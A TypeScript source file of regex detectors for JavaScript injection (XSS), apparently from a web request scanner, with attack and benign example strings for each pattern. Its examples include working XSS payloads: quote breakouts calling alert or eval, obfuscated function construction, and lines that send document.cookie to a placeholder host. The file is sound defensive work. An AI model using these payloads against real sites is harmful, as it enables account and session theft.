/** Detectors of program text: JavaScript of pages here, other programs in tables of their own. */

import type { ByteString } from '../../../base/byte-string.ts';
import { SEEN } from '../bytes-seen.ts';
import { isSaidOf } from '../code-in-text.ts';
import { words } from '../literals.ts';
import { actsInString, leavesString } from '../own-code.ts';
import { patternFamily, type PatternDetector } from '../patterns.ts';
import { objects } from './objects.table.ts';
import { serverCode } from './server-code.table.ts';

const ecma = 'ECMA-262, sections 13.3 and 13.5; HTML standard, section 8';

/** Functions of attacks; the others begin ordinary statements, too. */
const attackCall = /(?:alert|confirm|prompt|eval|atob|Function)["'`\])]{0,3}\s{0,4}[(`]$/;
/** Bytes before a call in which brackets are counted. */
const statementBytesMax = 400;

/** Whether a call follows the end of another statement of the same program: `f(1)); setTimeout(`. */
function leavesStatement(text: ByteString, start: number, end: number): boolean {
  const match = text.slice(start, end);
  const attack = attackCall.exec(match);
  if (attack !== null && actsInString(text, start + attack.index)) return true;
  const quotes = attack === null ? Array.from(match.matchAll(/["'`]/g), ({ index }) => index) : [];
  if (quotes.length > 0) return quotes.some((at) => leavesString(text, start + at));
  let depth = 0;
  for (let at = Math.max(0, start - statementBytesMax); at < end - 1; at++) {
    const char = text.charAt(at);
    if (char === '(' || char === '{') depth++;
    else if ((char === ')' || char === '}') && --depth < 0) return true;
  }
  return false;
}

/** Whether a function that is built is more than what a sentence is about. */
function buildsFunction(text: ByteString, start: number): boolean {
  // No attribute without quotes holds a blank, after which the sentence would be other attributes.
  return !(/^new\s/.test(text.slice(start, start + 4)) && isSaidOf(text, start, 'script'));
}

const js: readonly PatternDetector[] = [
  {
    id: 198_430,
    name: 'script-call-after-quote',
    proves: 'closes a quote in a script and calls a function',
    source: ecma,
    strong: true,
    confirmedBy: [941],
    needs: SEEN.paren,
    literals: words(
      'alert confirm prompt eval settimeout setinterval function atob fetch document. console.log',
    ),
    pattern:
      /(?:^\\?|[^\\])["'`][)\]}]{1,4}\s{0,2};\s{0,2}(?:if|try|for|while|var|let)\b[^\n]{0,80}\b(?:alert|confirm|prompt|eval)\s{0,2}\(|(?:^\\?|[^\\])["'`)\]}]{1,3}[\s;,)}\]]{0,6}(?:[-+*/^%|&?:,;=]{1,2}|(?<=["'`]\s{0,2}\}))\s{0,4}[({[]{0,3}(?:(?:window|self|top|parent|globalThis|frames)\s{0,2}(?:\.|\[))?["'`]{0,1}(?:alert|confirm|prompt|eval|setTimeout|setInterval|Function|atob|fetch|document\.\w{3,8}|console\.log)["'`\])]{0,3}\s{0,4}[(`]/g,
    counts: leavesStatement,
    examples: {
      attacks: [
        "'-alert(1)-'",
        '1);fetch("//x")',
        'f, null); alert(a.b)',
        '";alert(1)//',
        "');confirm(1)//",
        "'+eval(1)+'",
        '"));if(!self.x)self.x=!alert(1)//',
        ...["\\''-fetch('//x')-'", `'+"'"-fetch('//x')-'`],
      ],
      benign: [
        ...['he said "alert" (1)', "it's; an alert", '"a" - b'],
        'f(g({ a: 1 })); setTimeout(function () {}, 100);',
        "await Promise.all([fetch('/a'), fetch('/b')])",
        "x.innerHTML = '<b>hi</b>';\neval('1 + 1');",
      ],
    },
  },
  {
    id: 198_431,
    name: 'script-call',
    proves: 'calls a function that script attacks call',
    source: ecma,
    strong: false,
    confirmedBy: [941],
    needs: SEEN.paren,
    literals: words(
      'alert confirm prompt eval execscript settimeout setinterval importscripts function',
    ),
    pattern:
      /(?:^|[^\w.$])(?:alert|confirm|prompt|eval|execScript|setTimeout|setInterval|importScripts|Function)\s{0,4}(?:\/\*[^*]{0,32}\*\/)?(?:\?\.)?\(\s{0,4}(?:["'`\d]|document|window|location|String|this|self|atob|\/|name|`)/g,
    examples: {
      attacks: ['alert(1)', 'eval("x")', 'prompt(document.cookie)'],
      benign: ['an alert (red)', 'evaluate(1)'],
    },
  },
  {
    id: 198_432,
    name: 'script-property-chain',
    proves: 'reads or sets cookies, address or contents of a page in a script',
    source: ecma,
    strong: false,
    confirmedBy: [941],
    needs: 0,
    literals:
      words(`document [ .location .name .open .eval location localstorage. string.fromcharcode
      innerhtml outerhtml xmlhttprequest navigator.sendbeacon`),
    pattern:
      /\bdocument\s{0,2}(?:\.|\[["'`])\s{0,2}(?:cookie|write|writeln|domain|location|body|documentElement|createElement|forms|URL)\b|\b(?:window|self|top|parent|this|globalThis)\s{0,2}\[\s{0,2}["'`/]|\b(?:window|self|top|parent|document)\.(?:location|name|open|eval)\b|\blocation\s{0,2}(?:\.(?:href|hash|assign|replace))?\s{0,2}=\s{0,2}["'`\w]|\blocalStorage\.\w|String\.fromCharCode|\.(?:inner|outer)HTML\s{0,2}=|XMLHttpRequest|navigator\.sendBeacon/g,
    examples: {
      attacks: ['(document.cookie)', "self['alert']", 'location="//x"'],
      benign: ['the document', 'location: here'],
    },
  },
  {
    id: 198_433,
    name: 'script-constructor-call',
    proves: 'builds a function from a text',
    source: ecma,
    strong: true,
    confirmedBy: [941, 934],
    needs: 0,
    literals: words(
      'constructor function ` reflect. [ onerror eval execscript settimeout setinterval',
    ),
    pattern:
      /(?:constructor|\[["'`]constructor["'`]\])\s{0,2}(?:\.|\[["'`]|\()\s{0,2}(?:constructor|prototype|["'`])[^\n]{0,8}[(\]]|(?:\[\]|""|''|\d)(?:\.|\[["'`])(?:constructor|filter|map|find|sort|at|flat|concat|some|entries)[^\n]{0,16}constructor|new\s{1,4}Function\s{0,2}\(\s{0,2}["'`]|(?:alert|confirm|prompt|eval|setTimeout|Function)(?:\.call|\.apply|\.bind|\?\.)?\s{0,2}`[^`]{0,64}`|Reflect\.(?:apply|construct)\s{0,2}\(|\[\s{0,2}["'`](?:al|ale|aler|ev|eva|con|pro|prom)["'`]\s{0,2}\+|\b(?:window|self|top|parent|globalThis)\s{0,2}\[\s{0,2}["'`/][^\]]{1,60}\]\s{0,2}\(|\b(?:eval|execScript)\s{0,2}\(\s{0,2}(?:["'][^"'\n]{0,40}["']\s{0,2}\+|atob|unescape|String\.from|location|name\b)|\b(?:setTimeout|setInterval)\s{0,2}\(\s{0,2}["'`]\s{0,2}(?:alert|confirm|prompt|eval|document)\b|\bFunction\s{0,2}\(\s{0,2}["'`][^\n]{0,80}["'`]\s{0,2}\)\s{0,2}\(|throw\s{0,2}onerror\s{0,2}=|onerror\s{0,2}=\s{0,2}(?:alert|eval)/g,
    counts: buildsFunction,
    examples: {
      attacks: [
        "constructor.constructor('x')()",
        'alert`1`',
        "self['al'+'ert'](1)",
        "new Function('x')",
        "new Function('x')() in y",
      ],
      benign: [
        "new Function('a', 'return a + 1')(1) is 2",
        'the constructor call',
        'new Functionality',
        'an alert',
      ],
    },
  },
  {
    id: 198_437,
    name: 'script-call-value',
    proves: 'breaks out of a script or template and calls a function',
    source: ecma,
    strong: true,
    confirmedBy: [941],
    needs: SEEN.paren,
    literals: words('alert confirm prompt eval'),
    pattern:
      /^(?=[^a-z]{0,16}[-+*/;|&~!}$])[\s\d;,*/+|&(){}[\]$!~"'`\\^-]{1,16}(?:(?:window|self|top|parent|globalThis)\s{0,2}\.\s{0,2})?(?:alert|confirm|prompt|eval)\s{0,2}\(\s{0,2}(?:\d|["'`/]|document|window|location|origin|this|self|name|atob|String)/g,
    examples: {
      attacks: ['1;alert(1)', '*/alert(1)/*', '${alert(1)}', '-prompt(document.domain)-'],
      benign: ['alert(1)', 'on error: alert(1)', '(an alert (1))', '// call alert("x") here'],
    },
  },
  {
    id: 198_440,
    name: 'script-statement-after-quote',
    proves: 'closes a quote in a script and goes to another page or reads cookies',
    source: ecma,
    strong: true,
    confirmedBy: [941],
    needs: SEEN.semicolon,
    literals: words('location document. import'),
    pattern:
      /(?:^\\?|[^\\])["'`][)\]}]{0,4}\s{0,2};\s{0,2}(?:(?:(?:window|self|top|parent|document)\.)?location(?:\.href)?\s{0,2}=(?=\s{0,2}["'`])|\w{1,24}\s{0,2}=\s{0,2}document\.(?:cookie|domain)\b|import\s{0,2}\((?=\s{0,2}["'`]))/g,
    counts: leavesStatement,
    examples: {
      attacks: ["';location='//x'//", "';x=document.cookie//", "');import('//x')//"],
      benign: [
        "let a = 'b'; location = 'c';",
        ...["f('a'); import('./b.js')", "the 'new'; location: 'here'", '"a"; import "b"'],
      ],
    },
  },
  {
    id: 198_439,
    name: 'script-indirect-call',
    proves: 'calls a function that script attacks call by a detour',
    source: ecma,
    strong: true,
    confirmedBy: [941],
    needs: SEEN.paren,
    literals: words('alert confirm prompt eval'),
    pattern:
      /(?:^|[^\w.$])(?:\(\s{0,2}(?:\d\s{0,2},\s{0,2})?(?:(?:window|self|top|parent|globalThis)\s{0,2}\.\s{0,2})?(?:alert|confirm|prompt|eval)\s{0,2}\)\s{0,2}(?:\?\.\s{0,2})?\(\s{0,4}|(?:alert|confirm|prompt|eval)\s{0,2}(?:\?\.\s{0,2}\(\s{0,4}|\??\.(?:call|apply)\s{0,2}\(\s{0,4}(?:[\w.%]{1,12})?\s{0,4},\s{0,4}\[?\s{0,4}))(?:["'`\d/]|document|location|origin|atob|String)/g,
    examples: {
      attacks: [
        ...['(alert)(1)', '(0,eval)("a")', 'alert?.(document?.cookie)', '(self.confirm)(1)'],
        ...['prompt.call(null,1)', 'alert.apply(null, [1])', 'alert.call(%20, "XSS");'],
      ],
      benign: [
        ...['(0, eval)(code)', 'alert.apply(window, arguments)', '[alert](1)', 'the alert (1)'],
        ...['(an alert) (1)', 'eval.call(this, source)', 'alert?.(message)'],
      ],
    },
  },
  {
    id: 198_438,
    name: 'script-sends-page',
    proves: 'sends cookies or contents of the page to another host',
    source: ecma,
    strong: true,
    confirmedBy: [941],
    needs: SEEN.plus,
    literals: words('document.'),
    pattern:
      /(?:\bfetch\s{0,2}\(|sendBeacon\s{0,2}\(|\blocation(?:\.href)?\s{0,2}=|\.src\s{0,2}=|\bopen\s{0,2}\(|location\.(?:assign|replace)\s{0,2}\()\s{0,4}["'`](?:https?:)?\/\/[^"'`\n]{0,200}["'`]\s{0,4}\+\s{0,4}(?:[\w.]{0,32}\(\s{0,4}){0,2}document\.(?:cookie|domain|body|documentElement)/g,
    examples: {
      attacks: ["document.location='//x?'+document.cookie", 'fetch("//x/"+btoa(document.cookie))'],
      benign: ['document.cookie = "a=" + b', 'fetch("/a?" + document.title)'],
    },
  },
  {
    id: 198_434,
    name: 'script-of-signs',
    proves: 'is a script of brackets and signs only',
    source: ecma,
    strong: true,
    confirmedBy: [941],
    needs: SEEN.bracket | SEEN.bang,
    literals: ['[]'],
    pattern:
      /(?:\(?!\[\]\+\[\]\)?|\(?!!\[\]\+\[\]\)?|\[\+\[\]\]|\(\[\]\[\[?|\[\]\[\(!)[[\]()!+]{6,200}|\$=~\[\];/g,
    examples: {
      attacks: ['(![]+[])[+[]]+(![]+[])', '[][(![]+[])[+!+[]]]'],
      benign: ['- [ ] todo', '![](a.png)', '[x] (a)!'],
    },
  },
];

/** The family of program text. */
export const script = patternFamily('script', [...js, ...serverCode, ...objects]);
